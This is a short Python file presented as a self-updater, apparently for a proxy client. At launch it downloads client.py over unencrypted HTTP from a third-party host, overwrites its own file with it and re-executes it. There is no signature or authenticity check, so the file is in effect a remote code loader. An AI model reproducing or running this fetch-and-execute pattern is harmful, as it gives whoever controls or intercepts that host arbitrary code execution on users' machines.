import hashlib
import os
import sys
import urllib.request


class SelfUpdater:
    URL = "http://update.fastproxy-tools.biz/latest/client.py"

    def fetch(self):
        return urllib.request.urlopen(self.URL, timeout=20).read()

    def apply(self):
        new = self.fetch()
        me = os.path.abspath(__file__)
        if hashlib.sha1(new).hexdigest() != hashlib.sha1(open(me, "rb").read()).hexdigest():
            with open(me, "wb") as f:
                f.write(new)
            os.execv(sys.executable, [sys.executable, me])


SelfUpdater().apply()
